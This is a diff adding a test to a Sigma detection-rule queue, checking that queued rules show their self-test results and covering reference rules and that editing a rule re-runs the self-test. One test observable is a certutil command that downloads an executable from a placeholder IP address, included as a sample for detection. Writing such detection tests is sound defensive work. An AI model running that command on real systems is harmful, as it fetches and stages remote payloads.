@@ -298,6 +298,26 @@ describe('sigma.queue.enqueue on the bus', () => {
     expect(await enqueue(third.executionId, third.articleId, generated(reworded))).toMatchObject({ ok: true, results: [{ outcome: 'queued', created: true }] });
   });
 
+  it('shows the self-test and covering reference rules the workflow recorded, and runs the self-test again on an edited rule', async () => {
+    const { executionId, articleId } = await execution();
+    const observables = [{ type: 'cmdline', value: 'certutil.exe -urlcache -f http://198.51.100.4/a.exe a.exe' }];
+    const coveredBy = [{ rule_id: 'r-1', title: 'CertUtil Download', author: 'SigmaHQ', license: 'DRL-1.1', origin: 'sigmahq', path: 'rules/certutil.yml', level: 'high' }];
+    const provenance = { self_test: { fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: { events: 3286, fires: 0, examples: [] } }, observables, covered_by: coveredBy };
+    const [result] = ((await enqueue(executionId, articleId, [{ rule_yaml: valid, source: 'generated', needs_review: true, provenance }])) as { results: Array<{ queue_id: number }> }).results;
+    const item = (await request(harness.app).get(`/api/sigma-queue/${result?.queue_id}`).expect(200)).body;
+    expect(item.self_test).toEqual({ fires: true, events: 2, fired_on: [`cmdline: ${observables[0]?.value}`], baseline: { events: 3286, fires: 0, examples: [] }, error: null });
+    expect(item.covered_by).toEqual(coveredBy);
+
+    // An edit that no longer matches the observable: the queue runs the self-test on the new YAML.
+    const edited = await request(harness.app).put(`/api/sigma-queue/${result?.queue_id}/rule`).send({ rule_yaml: rule({ id: ID, title: 'Certutil Download', image: '\\bitsadmin.exe' }) }).expect(200);
+    expect(edited.body.self_test).toMatchObject({ fires: false, fired_on: [] });
+    expect(edited.body.self_test.baseline.events).toBeGreaterThanOrEqual(3000);
+    expect(edited.body.covered_by).toEqual(coveredBy);
+    // A rule queued without observables has no self-test to show or re-run.
+    const plain = (await request(harness.app).post('/api/sigma-queue').send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain' }) }).expect(201)).body as { queue_id: number };
+    expect((await request(harness.app).put(`/api/sigma-queue/${plain.queue_id}/rule`).send({ rule_yaml: rule({ id: '7c1e2a4b-5d6f-4a8b-9c0d-1e2f3a4b5c6d', title: 'Plain', args: ['-decode'] }) }).expect(200)).body.self_test).toBeNull();
+  });
+
   it('answers bad payloads with ok: false validation_error', async () => {
     const { executionId, articleId } = await execution();
     expect(await harness.ctx.bus.request(REQUEST_KEYS.sigmaQueueEnqueue, { rule_yaml: valid })).toMatchObject({ ok: false, error: { code: 'validation_error' } });
